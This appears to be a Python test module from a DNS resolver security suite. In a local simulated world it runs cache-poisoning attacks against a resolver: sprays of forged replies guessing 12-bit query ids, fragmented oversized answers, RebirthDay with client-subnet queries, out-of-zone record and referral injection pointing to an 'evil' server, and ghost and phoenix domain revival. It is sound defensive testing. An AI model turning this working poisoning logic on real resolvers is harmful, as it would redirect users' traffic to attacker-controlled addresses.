# SPDX-License-Identifier: Apache-2.0
"""Attacks on what is believed: forged datagrams, records of other zones, delegations that should have ended."""
import random
import socket
import time

import dns.edns
import dns.flags
import dns.message
import dns.name
import dns.rdatatype as T
import dns.rrset

import naive
from cases import Figure, case
from world import ROOT

TRUE, FALSE = "192.0.2.10", "192.0.2.66"
IDS = 4096              # a run weakened to 12 bits: the forger knows port, letter case and four bits of the id
QUESTIONS = 10
UDP_SIZE = 1232
ECS_CLIENTS = 64
GHOST_TTL = 2
PHOENIX_FLOOR = 5


def addresses(reply):
    return [r.address for rrset in (reply.answer if reply else []) if rrset.rdtype == T.A for r in rrset]


def ask_all(resolver, names):
    """(answers that are true, that are forged)"""
    found = [addresses(resolver.ask(owner)) for owner in names]
    return sum(f == [TRUE] for f in found), sum(FALSE in f for f in found)


def ask_control(names, budget=400):
    control = naive.Naive(ROOT, budget)
    try:
        return sum(FALSE in (control.ask(owner) or []) for owner in names)
    finally:
        control.close()


def poisoned(count, least):
    assert count >= least, f"the control was poisoned {count} times: no attack"
    return [Figure("forged", count)]


# --- off the path ---------------------------------------------------------------------------------------

def answered(query, address):
    reply = dns.message.make_response(query)
    reply.flags |= dns.flags.AA
    if query.question[0].rdtype == T.A:
        reply.answer.append(dns.rrset.from_text(query.question[0].name, 60, "IN", "A", address))
    return reply


def prepare_forge(world):
    """Before the true answer, over UDP, one for each id of the part that the forger does not know."""
    def on_query(query, sock, client, tcp):
        if not tcp and query.question[0].rdtype == T.A:
            wire = bytearray(answered(query, FALSE).to_wire())
            ids = [(query.id & ~(IDS - 1)) | i for i in range(IDS)]
            random.shuffle(ids)
            for number in ids:
                wire[0:2] = number.to_bytes(2, "big")
                sock.sendto(wire, client)
        return answered(query, TRUE).to_wire()
    zone = world.child("forge.zz.")
    world.servers.on_query[zone.address] = on_query


@case("offpath", "off-path forgeries, weakened to 12 bits", prepare_forge,
      lambda world: poisoned(ask_control([f"a{i}.forge.zz" for i in range(QUESTIONS)]), QUESTIONS // 2))
def offpath(world, resolver):
    true, false = ask_all(resolver, [f"b{i}.forge.zz" for i in range(QUESTIONS)])
    return [Figure("forged", false, 0), Figure("true", true, QUESTIONS, True)]


def prepare_fragments(world):
    """3000 octets over UDP whatever the resolver said it takes; the true answer over TCP."""
    def on_query(query, sock, client, tcp):
        if tcp or query.question[0].rdtype != T.A:
            return answered(query, TRUE).to_wire()
        reply = answered(query, FALSE)
        for i in range(12):
            reply.additional.append(dns.rrset.from_text(f"p{i}.frag.zz.", 60, "IN", "TXT", '"' + "x" * 250 + '"'))
        return reply.to_wire(max_size=65535)
    zone = world.fragments = world.child("frag.zz.")
    world.servers.on_query[zone.address] = on_query


@case("fragments", "fragmented replies, whose later parts anybody can forge", prepare_fragments,
      lambda world: poisoned(ask_control(["a.frag.zz"]), 1))
def fragments(world, resolver):
    world.servers.reset()
    world.servers.advertised.clear()
    found = addresses(resolver.ask("b.frag.zz"))
    false = FALSE in found
    tcp = sum(a[4] for a in world.servers.sent_to(world.fragments.address))
    return [Figure("fragmented answers taken", int(false), 0), Figure("octets advertised", max(world.servers.advertised), UDP_SIZE),
            Figure("asked over TCP", tcp),
            Figure("true answer had", int(TRUE in found))]


def prepare_rebirth(world):
    """Holds every question, so that whoever sends equal ones keeps many out at once."""
    held = []

    def on_query(query, sock, client, tcp):
        if query.question[0].rdtype == T.A and not tcp:
            held.append((query, sock, client))
            return None
        return answered(query, TRUE).to_wire()
    world.held = held
    zone = world.child("ecs.zz.")
    world.rebirth = zone.address
    world.servers.on_query[zone.address] = on_query


def control_rebirth(world):
    """Who forwards the clients' subnets has a question out for each: as many ids are right for one forgery."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
        ids = random.sample(range(65536), ECS_CLIENTS)
        for i, number in enumerate(ids):
            query = dns.message.make_query("a.ecs.zz", "A", options=[dns.edns.ECSOption(f"10.99.{i}.0", 24)])
            query.id = number
            s.sendto(query.to_wire(), (world.rebirth, 53))
        time.sleep(0.3)
        out = len(world.held)
        world.held.clear()
    assert out == ECS_CLIENTS, out
    return [Figure("questions out at once", out)]


@case("rebirthday", "RebirthDay: 64 clients with different subnets ask one name", prepare_rebirth, control_rebirth)
def rebirthday(world, resolver):
    world.held.clear()
    sockets = []
    for i in range(ECS_CLIENTS):
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        query = dns.message.make_query("one.ecs.zz", "A", options=[dns.edns.ECSOption(f"10.99.{i}.0", 24)])
        s.sendto(query.to_wire(), ("127.0.0.1", 5300))
        sockets.append(s)
    time.sleep(0.25)
    name = dns.name.from_text("one.ecs.zz")
    out = [h for h in list(world.held) if h[0].question[0].name == name]
    subnets = sum(any(o.otype == 8 for o in h[0].options) for h in out)
    for query, sock, client in out:
        sock.sendto(answered(query, TRUE).to_wire(), client)
    for s in sockets:
        s.close()
    world.held.clear()
    return [Figure("questions out at once", len(out), 2), Figure("with a client's subnet", subnets, 0)]


# --- records of other zones --------------------------------------------------------------------------------

def prepare_injection(world):
    """Beside its answer, records of a victim's in every section; then a referral that leads out of the zone."""
    def extra(query, reply):
        owner = query.question[0].name
        kind = owner[0][:1].lower()
        victim = "www.bvictim.zz."
        forged = dns.rrset.from_text(victim, 600, "IN", "A", FALSE)
        servers = [dns.rrset.from_text(z, 600, "IN", "NS", "ns.evil.zz.") for z in ("bvictim.zz.", "zz.", ".")]
        glue = dns.rrset.from_text("ns.evil.zz.", 600, "IN", "A", world.evil)
        if query.question[0].rdtype != T.A or len(owner) != 4:
            return reply
        if kind == b"g":
            reply = dns.message.make_response(query)       # a referral upwards, or to the side
            reply.authority += servers[:1] + ([] if owner[0][1:2] == b"s" else servers[1:])
            reply.additional += [glue, dns.rrset.from_text("ns.bvictim.zz.", 600, "IN", "A", world.evil)]
            return reply
        reply.set_rcode(0)
        reply.answer[:] = [dns.rrset.from_text(owner, 60, "IN", "A", TRUE)]
        reply.authority[:] = servers
        reply.additional += [glue, forged, dns.rrset.from_text("ns.bvictim.zz.", 600, "IN", "A", world.evil)]
        if kind == b"a":
            reply.answer.append(forged)
        return reply

    world.evil = world.address()
    world.servers.serve(world.evil)
    world.servers.on_query[world.evil] = lambda query, sock, client, tcp: answered(query, FALSE).to_wire()
    world.child("bvictim.zz.", f"www.bvictim.zz. 60 A {TRUE}\n*.bvictim.zz. 60 A {TRUE}\n")
    world.child("inject.zz.", hook=extra)


def after(asker, first):
    """Asks the attacker's names, then the victim's."""
    for owner in first:
        asker.ask(owner)


def control_injection(_world, first, victim):
    control = naive.Naive(ROOT)
    try:
        after(control, first)
        found = control.ask(victim) or []
    finally:
        control.close()
    return poisoned(sum(a == FALSE for a in found), 1)


def judge_injection(world, resolver, first):
    world.servers.reset()
    after(resolver, first)
    true, false = ask_all(resolver, ["www.bvictim.zz", "x.bvictim.zz"])
    return [Figure("forged", false, 0), Figure("true", true, 2, True),
            Figure("questions to the attacker's server", len(world.servers.sent_to(world.evil)), 0)]


@case("bailiwick", "records of a victim in answer, authority and additional section", prepare_injection,
      lambda world: control_injection(world, ["a1.inject.zz"], "www.bvictim.zz"))
def bailiwick(world, resolver):
    return judge_injection(world, resolver, ["a1.inject.zz", "a2.inject.zz", "b1.inject.zz"])


@case("delegation", "delegation following: referrals upwards and to the side, with glue", None,
      lambda world: control_injection(world, ["g1.inject.zz"], "x.bvictim.zz"))
def delegation(world, resolver):
    return judge_injection(world, resolver, ["g1.inject.zz", "gs.inject.zz", "g2.inject.zz"])


# --- ghosts ---------------------------------------------------------------------------------------------

def prepare_ghost(world):
    """Its server says in each answer that the zone is served for a day."""
    def renew(query, reply):
        if query.question[0].rdtype in (T.A, T.NS):
            reply.set_rcode(0)
            reply.answer[:] = [dns.rrset.from_text(query.question[0].name, 1, "IN", "A", TRUE)] if query.question[0].rdtype == T.A else []
            owner = dns.name.from_text(world.ghost)
            (reply.authority if reply.answer else reply.answer).append(dns.rrset.from_text(owner, 86400, "IN", "NS", f"ns.{world.ghost}"))
            reply.additional.append(dns.rrset.from_text(f"ns.{world.ghost}", 86400, "IN", "A", world.ghost_address))
        return reply
    world.ghost_hook = renew
    world.ghost_address = world.address()
    world.servers.serve(world.ghost_address)
    world.ghosts = 0


def ghost_life(world, asker, found):
    """Born with a TTL of two seconds, revoked, asked for each half second until well after: answers at the end."""
    world.ghosts += 1
    world.ghost = f"ghost{world.ghosts}.zz."
    zone = world.child(world.ghost, hook=world.ghost_hook, address=world.ghost_address, ttl=GHOST_TTL)
    first = found(asker, f"a.{world.ghost}")
    world.tld.drop(zone.origin)
    world.tld.drop(dns.name.from_text(f"ns.{world.ghost}"))
    end = time.monotonic() + GHOST_TTL + 1.5
    i = 0
    while time.monotonic() < end:
        i += 1
        asker.ask(f"b{i}.{world.ghost}")
        asker.ask(f"{world.ghost}", "NS" if not isinstance(asker, naive.Naive) else T.NS)
        time.sleep(0.4)
    return first, sum(bool(found(asker, f"c{i}.{world.ghost}")) for i in range(3))


def control_ghost(world):
    control = naive.Naive(ROOT)
    try:
        _, last = ghost_life(world, control, lambda asker, owner: asker.ask(owner))
    finally:
        control.close()
    assert last == 3, last
    return [Figure("answers of the ghost", last)]


@case("ghost", "ghost domain: the child renews its own TTL after the parent has revoked it", prepare_ghost, control_ghost)
def ghost(world, resolver):
    first, last = ghost_life(world, resolver, lambda asker, owner: addresses(asker.ask(owner)))
    return [Figure("answered while delegated", int(bool(first)), 1, True), Figure("answers of the ghost", last, 0)]


def prepare_phoenix(world):
    """Its server gives parts of itself away, to itself: one label deeper whenever the story says so."""
    world.phoenix_address = world.address()
    world.servers.serve(world.phoenix_address)
    world.phoenixes = 0


def phoenix_life(world, asker, found):
    """Born with a TTL of two seconds and revoked; each second something is asked of it one label deeper: answers at the end."""
    world.phoenixes += 1
    origin = dns.name.from_text(f"phoenix{world.phoenixes}.zz.")
    given = {0}

    def refer(query, reply):
        labels = len(query.question[0].name) - len(origin)
        if labels > world.phoenix_depth and world.phoenix_depth not in given:
            given.add(world.phoenix_depth)
            cut = dns.name.Name(query.question[0].name.labels[-(len(origin) + world.phoenix_depth):])
            reply.answer[:], reply.authority[:], reply.additional[:] = [], [], []
            reply.flags &= ~dns.flags.AA
            reply.set_rcode(0)
            reply.authority.append(dns.rrset.from_text(cut, GHOST_TTL, "IN", "NS", f"ns.{cut}"))
            reply.additional.append(dns.rrset.from_text(f"ns.{cut}", GHOST_TTL, "IN", "A", world.phoenix_address))
        return reply
    world.phoenix_depth = 0
    zone = world.child(str(origin), f"*.{origin} 1 A {TRUE}\n", hook=refer, address=world.phoenix_address, ttl=GHOST_TTL)
    first = found(asker, f"a.{origin}")
    world.tld.drop(zone.origin)
    world.tld.drop(dns.name.from_text(f"ns.{origin}"))
    end = time.monotonic() + GHOST_TTL + PHOENIX_FLOOR + 1
    while time.monotonic() < end:
        world.phoenix_depth += 1
        found(asker, ".".join([f"b{world.phoenix_depth}"] + ["d"] * world.phoenix_depth) + f".{origin}")
        time.sleep(1)
    deep = ".".join(["d"] * world.phoenix_depth) + f".{origin}"
    return first, sum(bool(found(asker, f"c{i}.{deep}")) for i in range(3))


def control_phoenix(world):
    control = naive.Naive(ROOT)
    try:
        _, last = phoenix_life(world, control, lambda asker, owner: asker.ask(owner))
    finally:
        control.close()
    assert last == 3, last
    return [Figure("answers of the phoenix", last)]


@case("phoenix", "phoenix domain: what was taken away gives parts of itself away, with cache.min_ttl",
      prepare_phoenix, control_phoenix, cache={"min_ttl": f"{PHOENIX_FLOOR}s"})
def phoenix(world, resolver):
    unproven = dns.flags.RD | dns.flags.CD
    first, last = phoenix_life(world, resolver, lambda asker, owner: addresses(asker.ask(owner, flags=unproven)))
    return [Figure("answered while delegated", int(bool(first)), 1, True), Figure("answers of the phoenix", last, 0)]
